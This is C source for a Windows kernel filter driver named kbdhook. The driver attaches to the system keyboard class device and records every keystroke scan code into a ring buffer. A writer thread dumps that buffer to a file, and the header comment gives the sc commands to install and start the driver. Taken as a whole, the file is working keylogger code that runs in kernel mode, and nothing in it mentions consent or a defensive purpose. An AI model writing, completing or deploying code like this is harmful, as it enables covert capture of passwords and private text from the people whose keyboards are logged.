/*
 * main.c - kbdhook: sits on top of KeyboardClass0 and copies every scan code
 *          into a ring buffer that the writer thread dumps to a file.
 *
 *   sc create kbdhook type= kernel binPath= C:\drivers\kbdhook.sys
 *   sc start kbdhook
 */
#include "kbdhook.h"

KH_GLOBALS g_Kh;

DRIVER_INITIALIZE DriverEntry;
DRIVER_UNLOAD KhUnload;
DRIVER_DISPATCH KhPassThrough;
DRIVER_DISPATCH KhRead;
DRIVER_DISPATCH KhPower;
IO_COMPLETION_ROUTINE KhReadComplete;

#pragma alloc_text(INIT, DriverEntry)

NTSTATUS KhPassThrough(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKH_EXTENSION ext = (PKH_EXTENSION)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(ext->Lower, Irp);
}

NTSTATUS KhPower(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKH_EXTENSION ext = (PKH_EXTENSION)DeviceObject->DeviceExtension;

    PoStartNextPowerIrp(Irp);          /* harmless on Vista+ */
    IoSkipCurrentIrpStackLocation(Irp);
    return PoCallDriver(ext->Lower, Irp);
}

NTSTATUS KhReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    UNREFERENCED_PARAMETER(DeviceObject);
    UNREFERENCED_PARAMETER(Context);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        PKEYBOARD_INPUT_DATA data = (PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer;
        ULONG count = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));
        ULONG i;

        for (i = 0; i < count; i++) {
            KhPushKey(data[i].MakeCode, data[i].Flags);
        }
    }

    if (Irp->PendingReturned) {
        IoMarkIrpPending(Irp);
    }

    InterlockedDecrement(&g_Kh.PendingReads);
    return STATUS_CONTINUE_COMPLETION;
}

NTSTATUS KhRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKH_EXTENSION ext = (PKH_EXTENSION)DeviceObject->DeviceExtension;
    NTSTATUS status;

    IoCopyCurrentIrpStackLocationToNext(Irp);

    /* Ex: keeps kbdhook.sys mapped until KhReadComplete has returned */
    status = IoSetCompletionRoutineEx(DeviceObject, Irp, KhReadComplete, NULL, TRUE, TRUE, TRUE);
    if (!NT_SUCCESS(status)) {
        /* out of memory, this one goes up unlogged */
        IoSkipCurrentIrpStackLocation(Irp);
        return IoCallDriver(ext->Lower, Irp);
    }

    InterlockedIncrement(&g_Kh.PendingReads);
    return IoCallDriver(ext->Lower, Irp);
}

VOID KhUnload(PDRIVER_OBJECT DriverObject)
{
    PKH_EXTENSION ext;
    PDEVICE_OBJECT lower;
    LARGE_INTEGER interval;
    ULONG spins = 0;

    UNREFERENCED_PARAMETER(DriverObject);

    if (g_Kh.FilterDevice == NULL) {
        KhStopWriter();
        return;
    }

    ext = (PKH_EXTENSION)g_Kh.FilterDevice->DeviceExtension;
    lower = ext->Lower;

    IoDeleteDevice(g_Kh.FilterDevice);
    IoDetachDevice(lower);
    g_Kh.FilterDevice = NULL;

    /* kbdclass always keeps one read pending on us; it completes on the next key press */
    interval.QuadPart = -10LL * 1000 * 100;     /* 100 ms */
    while (InterlockedCompareExchange(&g_Kh.PendingReads, 0, 0) > 0) {
        if ((spins++ % 50) == 0)
            KDBG(("kbdhook: %ld read(s) still pending, press a key\n", g_Kh.PendingReads));
        KeDelayExecutionThread(KernelMode, FALSE, &interval);
    }

    KhStopWriter();
    KDBG(("kbdhook: unloaded\n"));
}

NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    UNICODE_STRING target = RTL_CONSTANT_STRING(KH_TARGET);
    PDEVICE_OBJECT fdo = NULL;
    PKH_EXTENSION ext;
    NTSTATUS status;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    RtlZeroMemory(&g_Kh, sizeof(g_Kh));
    KeInitializeSpinLock(&g_Kh.RingLock);

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++)
        DriverObject->MajorFunction[i] = KhPassThrough;
    DriverObject->MajorFunction[IRP_MJ_READ] = KhRead;
    DriverObject->MajorFunction[IRP_MJ_POWER] = KhPower;
    DriverObject->DriverUnload = KhUnload;

    status = KhStartWriter();
    if (!NT_SUCCESS(status)) {
        KDBG(("kbdhook: writer thread failed 0x%08X\n", status));
        return status;
    }

    status = IoCreateDevice(DriverObject, sizeof(KH_EXTENSION), NULL, FILE_DEVICE_KEYBOARD,
                            0, FALSE, &fdo);
    if (!NT_SUCCESS(status)) {
        KDBG(("kbdhook: IoCreateDevice failed 0x%08X\n", status));
        KhStopWriter();
        return status;
    }

    ext = (PKH_EXTENSION)fdo->DeviceExtension;
    RtlZeroMemory(ext, sizeof(*ext));
    ext->Self = fdo;

    status = IoAttachDevice(fdo, &target, &ext->Lower);
    if (!NT_SUCCESS(status)) {
        KDBG(("kbdhook: IoAttachDevice(%wZ) failed 0x%08X\n", &target, status));
        IoDeleteDevice(fdo);
        KhStopWriter();
        return status;
    }

    /* look like the device below us */
    fdo->DeviceType = ext->Lower->DeviceType;
    fdo->Characteristics = ext->Lower->Characteristics;
    fdo->Flags &= ~DO_DEVICE_INITIALIZING;

    g_Kh.FilterDevice = fdo;

    KDBG(("kbdhook: attached to %wZ (lower %p)\n", &target, ext->Lower));
    return STATUS_SUCCESS;
}
